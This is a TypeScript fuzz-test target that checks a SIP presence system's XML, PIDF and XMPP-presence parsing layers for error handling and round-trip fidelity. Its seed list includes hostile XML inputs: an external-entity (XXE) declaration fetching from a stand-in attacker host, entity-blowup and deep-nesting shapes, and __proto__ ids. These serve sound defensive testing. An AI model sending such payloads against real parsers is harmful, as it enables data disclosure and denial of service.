/**
 * Fuzz target: SIP-side XML bodies, three layers deep: parseSafeXml (src/formats/safe-xml.ts), parsePidf
 * (src/formats/pidf.ts) and pidfToPresence (src/core/presence.ts). Run with
 * `npm run fuzz -- pidf [seconds] [seed]`.
 *
 * Oracles: each layer throws only its own error class (SafeXmlError, PidfError, PresenceDocumentError);
 * and each layer's output written back and read again means the same:
 *  - the XML tree, serialized with explicit namespace declarations, re-parses to the same tree;
 *  - the PIDF document, through buildPidf (which may refuse with PidfError what it cannot write: an id
 *    that is no xs:ID, an unknown activity, an empty status), re-parses to the same document;
 *  - the XMPP presence, through presenceToPidf, gives the same presence back (per resource: availability,
 *    show, priority, statuses by language).
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseSafeXml, SafeXmlError, serializeXml, XML_NS, type XmlNode, type XmlOutElement } from '../../src/formats/safe-xml.js';
import { buildPidf, parsePidf, PidfError, type PidfDocument } from '../../src/formats/pidf.js';
import {
  loadPresenceTables,
  pidfToPresence,
  PresenceDocumentError,
  presenceToPidf,
  resourceToTupleId,
  type ResourcePresence,
} from '../../src/core/presence.js';
import { canonical, expectOnly, Finding, noThrow, pick, type FuzzTarget, type Random } from './engine.js';

const ROOT = new URL('../../', import.meta.url).pathname;
const FIXTURES = join(ROOT, 'test/fixtures/pidf');
const tables = loadPresenceTables(readFileSync(join(ROOT, 'mappings/rpid-show.yaml'), 'utf8'));

const PIDF_OPEN = '<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@example.com">';
const HOSTILE = [
  // deep nesting, far beyond the cap
  `${PIDF_OPEN}${'<x>'.repeat(5000)}${'</x>'.repeat(5000)}</presence>`,
  // many elements and attributes
  `${PIDF_OPEN}${'<tuple id="t"><status><basic>open</basic></status></tuple>'.repeat(1)}${'<note/>'.repeat(3000)}</presence>`,
  `<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@example.com" ${Array.from({ length: 500 }, (_, i) => `a${i}="${i}"`).join(' ')}/>`,
  // quadratic-blowup shape without a DTD: one huge attribute value full of references
  `<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="${'&amp;'.repeat(10_000)}"/>`,
  // parameter entities, external entities, CDATA, PIs, comments, odd encodings
  '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY % x SYSTEM "http://attacker/x">%x;]><presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@b"/>',
  `<?xml version="1.0" encoding="ISO-8859-1"?>${PIDF_OPEN}</presence>`,
  `\ufeff<?xml version="1.0" encoding="UTF-8"?><!-- c --><?pi x?>${PIDF_OPEN}<tuple id="a"><status><basic>open</basic></status><note><![CDATA[<b>&amp;</b>]]> &#x1F600; &#60;</note></tuple></presence><!-- after -->`,
  // namespace tricks
  '<p:presence xmlns:p="urn:ietf:params:xml:ns:pidf" xmlns:q="urn:ietf:params:xml:ns:pidf" entity="pres:a@b" p:x="1" q:x="2"/>',
  '<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:xml="http://www.w3.org/XML/1998/namespace" entity="pres:a@b" xml:lang="en"><tuple id="a" xml:lang=""><status><basic>closed</basic></status><note>x</note></tuple></presence>',
  '<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@b"><tuple id="constructor"><status><basic>open</basic><show xmlns="jabber:client">dnd</show></status><contact priority="0.5"></contact></tuple><tuple id="__proto__"><status/></tuple></presence>',
];

const SEEDS = [
  ...readdirSync(FIXTURES)
    .filter((f) => f.endsWith('.xml'))
    .sort()
    .map((f) => readFileSync(join(FIXTURES, f))),
  ...HOSTILE.map((s) => Buffer.from(s, 'utf8')),
];

const TOKENS = ['<', '>', '</', '/>', '="', '"', "'", '&', '&amp;', '&lt;', '&#0;', '&#9;', '&#13;', '&#x1F600;', '&#xD800;', '&#1114112;', '&lol;', '<![CDATA[', ']]>', '<!--', '-->', '<?', '?>', '<!DOCTYPE x>', '<!ENTITY', 'xmlns=""', 'xmlns:p="urn:x"', 'xmlns:xml="http://www.w3.org/XML/1998/namespace"', 'p:', 'xml:lang="de"', 'xml:lang=""', 'id="', 'entity="', 'priority="', '<tuple id="z">', '<status>', '<basic>open</basic>', '<basic>closed</basic>', '<note>', '<contact>', '<timestamp>', '<show xmlns="jabber:client">away</show>', '<dm:person xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model">', '<rpid:activities xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid">', '<rpid:busy/>', '<rpid:user-input xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid">idle</rpid:user-input>', 'ID-', '_20_', 'urn:ietf:params:xml:ns:pidf', ' ', '\n', '\r\n'];

// ------------------------------------------------------------------------------------------ mutations

const RPID = 'xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid"';
const SNIPPETS = [
  '<note>plain</note>',
  '<note xml:lang="fr">salut</note>',
  '<tuple id="x2"><status><basic>open</basic></status></tuple>',
  '<tuple id="ID-b_20_c"><status><basic>open</basic><show xmlns="jabber:client">xa</show></status><contact priority="0.25">sip:b@example.com</contact></tuple>',
  `<dm:person xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model" id="p9"><rpid:activities ${RPID}><rpid:busy/><rpid:away/></rpid:activities><dm:note>n</dm:note></dm:person>`,
  `<rpid:activities ${RPID}><rpid:meeting/><rpid:note>m</rpid:note><rpid:other>o</rpid:other></rpid:activities>`,
  `<rpid:user-input ${RPID}>idle</rpid:user-input>`,
  '<contact priority="0.3">sip:x@example.com</contact>',
  '<contact priority="0.5"></contact>',
  '<timestamp>2020-01-01T00:00:00Z</timestamp>',
  '<show xmlns="jabber:client">dnd</show>',
  '<status/>',
  '<basic>closed</basic>',
  '<x:ext xmlns:x="urn:example:ext"><x:y/></x:ext>',
];
const VALUES = ['open', 'closed', ' open ', 'away', 'chat', 'dnd', 'xa', '', '  ', 'idle', 'active', '0', '1', '0.5', '1.0', '-0.1', '1e-1', '.5', '0.0078', 'ID-', 'ID-a', 'ID-_41_', 'ID-_20_', 'ID-_110000_', '_', 'x', 'en', 'de-CH', '&amp;', '&#x41;', '&#13;', '&#10;', 'pres:a@b', 'sip:a@b', 'a b', 'ID-ä', 'é', 'busy', 'unknown', 'meeting', 'on-the-phone', 'p1', 'constructor'];

/** Elements with their content: `<name …>…</name>` (lazily matched, so not always the right one: fine here). */
const ELEMENT = /<([A-Za-z_][\w.:-]*)[^<>]*?(?:\/>|>[\s\S]*?<\/\1>)/g;

function matches(re: RegExp, s: string): RegExpExecArray[] {
  const out: RegExpExecArray[] = [];
  re.lastIndex = 0;
  for (let m = re.exec(s); m !== null && out.length < 256; m = re.exec(s)) out.push(m);
  return out;
}

function mutateXml(input: Buffer, random: Random): Buffer {
  let s = input.toString('utf8');
  for (let r = 1 + Math.floor(random() * 3); r > 0; r--) {
    const op = Math.floor(random() * 5);
    if (op === 0) {
      // replace a text node
      const texts = matches(/>([^<]*)</g, s);
      if (texts.length === 0) continue;
      const m = pick(random, texts);
      s = s.slice(0, m.index + 1) + pick(random, VALUES) + s.slice(m.index + m[0].length - 1);
    } else if (op === 1) {
      // replace an attribute value
      const values = matches(/="([^"<>]*)"|='([^'<>]*)'/g, s);
      if (values.length === 0) continue;
      const m = pick(random, values);
      s = s.slice(0, m.index) + `="${pick(random, VALUES).replace(/"/g, '&quot;')}"` + s.slice(m.index + m[0].length);
    } else if (op === 2 || op === 3) {
      // duplicate (op 2) or remove (op 3) an element
      const els = matches(ELEMENT, s);
      if (els.length === 0) continue;
      const m = pick(random, els);
      const end = m.index + m[0].length;
      s = op === 2 ? s.slice(0, end) + m[0] + s.slice(end) : s.slice(0, m.index) + s.slice(end);
    } else {
      // insert a snippet after a start tag
      const tags = matches(/<[A-Za-z_][^<>]*[^/]>/g, s);
      if (tags.length === 0) continue;
      const m = pick(random, tags);
      const end = m.index + m[0].length;
      s = s.slice(0, end) + pick(random, SNIPPETS) + s.slice(end);
    }
  }
  return Buffer.from(s, 'utf8');
}

// ------------------------------------------------------------------------------------------ XML tree

/** The tree as XML again, every namespace declared on the element that uses it. */
function toOut(n: XmlNode): XmlOutElement {
  const attrs: Array<[string, string]> = [['xmlns', n.ns]];
  let k = 0;
  for (const [key, value] of n.attrs) {
    if (!key.startsWith('{')) {
      attrs.push([key, value]);
      continue;
    }
    const close = key.lastIndexOf('}'); // a namespace URI may hold '}', an XML name may not
    const ns = key.slice(1, close);
    const local = key.slice(close + 1);
    if (ns === XML_NS) {
      attrs.push([`xml:${local}`, value]);
    } else {
      const p = `fz${k++}`;
      attrs.push([`xmlns:${p}`, ns], [`${p}:${local}`, value]);
    }
  }
  return { name: n.name, attrs, children: n.children.map((c) => (typeof c === 'string' ? c : toOut(c))) };
}

/** Text split into pieces (text, CDATA) reads back as one string: merge neighbours, drop empties. */
function treeMeaning(n: XmlNode): unknown {
  const children: unknown[] = [];
  let text = '';
  for (const c of n.children) {
    if (typeof c === 'string') {
      text += c;
      continue;
    }
    if (text !== '') children.push(text);
    text = '';
    children.push(treeMeaning(c));
  }
  if (text !== '') children.push(text);
  return [n.ns, n.name, [...n.attrs.entries()].sort(), children];
}

function checkTree(root: XmlNode): void {
  const xml = noThrow('serializeXml', () => serializeXml(toOut(root), { declaration: false }));
  const again = expectOnly('parseSafeXml of serialized tree', SafeXmlError, () => parseSafeXml(xml));
  if (!again.ok) {
    if (again.error.problem === 'too-large') return; // escaping made it longer than the cap
    throw new Finding('serialized XML tree does not re-parse', `${again.error.problem}: ${again.error.message}\n${JSON.stringify(xml.slice(0, 500))}`);
  }
  const a = canonical(treeMeaning(root));
  const b = canonical(treeMeaning(again.value));
  if (a !== b) throw new Finding('XML tree serialize/re-parse changed the tree', `before: ${a.slice(0, 600)}\nafter:  ${b.slice(0, 600)}`);
}

// ------------------------------------------------------------------------------------------ PIDF

/** buildPidf names persons without an id p1, p2, …: compare with those names filled in. */
function docMeaning(d: PidfDocument): string {
  return canonical({ ...d, persons: d.persons.map((p, i) => ({ ...p, id: p.id ?? `p${i + 1}` })) });
}

function checkDocument(doc: PidfDocument): string {
  const built = expectOnly('buildPidf', PidfError, () => buildPidf(doc));
  if (!built.ok) return `refused:${built.error.reason}`;
  const again = expectOnly('parsePidf of buildPidf output', PidfError, () => parsePidf(built.value));
  if (!again.ok) {
    if (again.error.reason === 'PIDF body too large') return 'too-large';
    throw new Finding('buildPidf output does not re-parse', `${again.error.reason}\n${JSON.stringify(built.value.slice(0, 500))}`);
  }
  const a = docMeaning(doc);
  const b = docMeaning(again.value);
  if (a !== b) throw new Finding('PIDF build/re-parse changed the document', `before: ${a.slice(0, 700)}\nafter:  ${b.slice(0, 700)}`);
  return 'rebuilt';
}

// ------------------------------------------------------------------------------------------ presence

/**
 * What presenceToPidf is meant to carry: one entry per tuple id (the last wins), and the stanza language
 * only through each status (the document's own language goes in Content-Language, outside the body).
 */
function presenceMeaning(resources: readonly ResourcePresence[]): string {
  const byId = new Map<string, ResourcePresence>();
  for (const r of resources) {
    const id = resourceToTupleId(r.resource);
    byId.delete(id);
    byId.set(id, r);
  }
  return canonical(
    [...byId.values()].map((r) => {
      const seen = new Set<string | undefined>();
      const statuses: Array<[string | null, string]> = [];
      for (const s of r.statuses) {
        const lang = s.lang ?? r.lang;
        if (s.text === '' || seen.has(lang)) continue;
        seen.add(lang);
        statuses.push([lang ?? null, s.text]);
      }
      return [r.resource ?? null, r.available, r.show ?? null, r.priority ?? null, statuses];
    }),
  );
}

function checkPresence(entity: string, resources: ResourcePresence[]): void {
  const written = noThrow('presenceToPidf', () => presenceToPidf(entity, resources, tables));
  const again = expectOnly('pidfToPresence of presenceToPidf output', PresenceDocumentError, () => pidfToPresence(written.body, tables));
  if (!again.ok) {
    if (again.error.sipStatus === 413) return;
    throw new Finding('presenceToPidf output does not re-parse', `${again.error.reason}\n${JSON.stringify(written.body.slice(0, 500))}`);
  }
  const a = presenceMeaning(resources);
  const b = presenceMeaning(again.value.resources);
  if (a !== b) throw new Finding('presence → PIDF → presence changed the presence', `before: ${a.slice(0, 700)}\nafter:  ${b.slice(0, 700)}`);
}

export const target: FuzzTarget = {
  name: 'pidf',
  description: 'parseSafeXml, parsePidf + buildPidf, pidfToPresence + presenceToPidf',
  seeds: SEEDS,
  tokens: TOKENS,
  maxInputBytes: 80 * 1024,
  parseOnly(input) {
    pidfToPresence(input, tables);
  },
  mutateStructured: mutateXml,
  run(input, random) {
    // Half the inputs as a string (how a decoded body arrives), half as bytes (a raw SIP body).
    const body: Buffer | string = random() < 0.5 ? input : input.toString('utf8');
    const tree = expectOnly('parseSafeXml', SafeXmlError, () => parseSafeXml(body));
    if (!tree.ok) {
      // The layers above must turn the same refusal into their own errors.
      expectOnly('parsePidf', PidfError, () => parsePidf(body));
      expectOnly('pidfToPresence', PresenceDocumentError, () => pidfToPresence(body, tables));
      return `no-xml:${tree.error.problem}:${tree.error.message}`;
    }
    checkTree(tree.value);
    const doc = expectOnly('parsePidf', PidfError, () => parsePidf(body));
    if (!doc.ok) {
      expectOnly('pidfToPresence', PresenceDocumentError, () => pidfToPresence(body, tables));
      return `no-pidf:${doc.error.reason}:${tree.value.name}`;
    }
    const rebuilt = checkDocument(doc.value);
    const presence = expectOnly('pidfToPresence', PresenceDocumentError, () => pidfToPresence(body, tables));
    if (!presence.ok) throw new Finding('pidfToPresence refused a document parsePidf accepted', presence.error.reason);
    checkPresence(presence.value.entity, presence.value.resources);
    const d = doc.value;
    return `ok:${rebuilt}:${Math.min(d.tuples.length, 4)}:${Math.min(d.persons.length, 3)}:${d.tuples.map((t) => `${t.basic ?? '-'}${t.show ?? ''}${t.activities ? 'a' : ''}${t.userInput ?? ''}${t.contact ? 'c' : ''}${t.priority ? 'p' : ''}${t.notes.length}`).join(',').slice(0, 60)}`;
  },
};
